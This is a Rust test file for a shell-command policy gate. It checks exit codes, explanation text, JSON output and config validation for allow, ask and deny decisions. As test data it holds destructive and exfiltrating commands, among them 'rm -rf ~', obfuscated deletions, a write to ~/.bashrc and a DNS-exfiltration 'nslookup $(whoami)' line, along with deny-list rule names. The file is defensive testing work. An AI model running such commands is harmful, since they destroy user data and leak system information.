//! `policy explain` rendering and exit codes, and `policy check`.

use super::Env;
use ua_policy::explain::{self, check};
use ua_policy::grants::Grants;

#[test]
fn exit_codes_are_0_allow_1_ask_2_deny() {
    let env = Env::new();
    let gate = env.gate();
    let code = |c: &str| explain::exit_code(&gate.decide(&env.request(c), &Grants::new()));
    assert_eq!(code("ls -la"), 0);
    assert_eq!(code("touch a.txt"), 1);
    assert_eq!(code("rm -rf /"), 2);
}

#[test]
fn text_names_parts_risk_decision_and_rule() {
    let env = Env::new();
    let d = env.gate().decide(&env.request("sudo rm -rf /tmp/x && curl https://example.com"), &Grants::new());
    let text = explain::render_text(&d);
    for want in [
        "command: sudo rm -rf /tmp/x && curl https://example.com",
        "rm -rf /tmp/x (via sudo)",
        "hosts: example.com",
        "risk: privileged",
        "decision: ask",
        "decided by: the fallback mode ask",
        "judge: would review",
    ] {
        assert!(text.contains(want), "{want:?} missing from:\n{text}");
    }
    let denied = explain::render_text(&env.gate().decide(&env.request("rm -rf ~"), &Grants::new()));
    assert!(denied.contains("decided by: deny-list rule"), "{denied}");
}

#[test]
fn text_shows_the_command_as_proposed_and_as_it_runs() {
    let env = Env::new();
    let gate = env.gate();
    let d = gate.decide(&env.request("git log --oneline"), &Grants::new());
    assert_eq!(explain::exit_code(&d), 0);
    let text = explain::render_text(&d);
    for want in [
        "command: git log --oneline\n",
        "runs as: git --no-pager log --oneline (paging turned off",
        "read_only   git --no-pager log --oneline",
        "decision: allow",
    ] {
        assert!(text.contains(want), "{want:?} missing from:\n{text}");
    }
    let json = explain::render_json(&d);
    assert!(json.contains("\"by\": \"paging\""), "{json}");
    // What is not edited still asks, and says why.
    let nested = explain::render_text(&gate.decide(&env.request("sh -c 'git log'"), &Grants::new()));
    assert!(!nested.contains("runs as:") && nested.contains("decision: ask"), "{nested}");
}

#[test]
fn json_is_the_whole_decision() {
    let env = Env::new();
    let d = env.gate().decide(&env.request("cat README.md"), &Grants::new());
    let v: serde_json::Value = serde_json::from_str(&explain::render_json(&d)).unwrap();
    assert_eq!(v["outcome"], "allow");
    assert_eq!(v["risk"], "read_only");
    assert_eq!(v["decided_by"]["layer"], "policy");
    assert_eq!(v["decided_by"]["policy"], "builtin.read-only");
    assert_eq!(v["analysis"]["parts"][0]["program"], "cat");
    assert_eq!(v["judge"]["state"], "not_needed");
}

#[test]
fn check_reports_layers_files_and_hooks_or_the_first_error() {
    let env = Env::new();
    env.config_file("policy.cedar", "@id(\"x\") forbid (principal, action == Action::\"connect\", resource);\n");
    env.config_file("policy.toml", "[approval]\ndefault = \"ask\"\n");
    env.script("hooks/pre-exec-a", "echo '{\"decision\":\"allow\"}'");
    let report = check(&env.cfg).unwrap();
    assert_eq!(report.layers.len(), 1);
    assert_eq!(report.files.len(), 2);
    assert_eq!(report.pre_exec.len(), 1);
    assert!(report.render().contains("valid against the schema"));
    env.config_file(
        "policy.cedar",
        "forbid (principal, action == Action::\"connect\", resource)\nwhen { resource.port == 22 };\n",
    );
    let err = check(&env.cfg).unwrap_err().to_string();
    assert!(err.contains("policy.cedar:2:"), "{err}");
    assert!(err.ends_with("run `unixagent policy check`"), "{err}");
}

/// The reasons for each class the classifier now sees: a write through an
/// option, a shell command inside code, code that cannot be read, a program
/// name the line computes, and one read with a variable unset.
#[test]
fn text_shows_why_each_kind_of_hidden_risk_was_found() {
    let env = Env::new();
    let text = |c: &str| explain::render_text(&env.gate().decide(&env.request(c), &Grants::new()));
    let cases: &[(&str, &[&str])] = &[
        ("base64 -d -o ~/.bashrc x", &["writes: ~/.bashrc", "deny-list rule startup-file-write", "start-up file"]),
        ("python3 -c 'import os; os.system(\"rm -rf ~\")'", &["rm -rf ~ (via python3 code)", "deny-list rule rm-home"]),
        ("python3 -c 'import os; os.system(cmd)'", &["destructive", "the command is built at run time"]),
        ("a=r; b=m; $a$b -rf ~", &["rm -rf ~", "deny-list rule rm-home"]),
        ("rm -rf \"$D\"/*", &["rm -rf /* (via if $D is unset)", "deny-list rule rm-root"]),
        ("$TOOL --force build", &["dynamic: $TOOL --force build", "could be any program"]),
        ("nslookup $(whoami).x.example", &["deny-list rule dns-exfil", "host name"]),
    ];
    for (command, wants) in cases {
        let t = text(command);
        for want in *wants {
            assert!(t.contains(want), "{want:?} missing from:\n{t}");
        }
    }
}
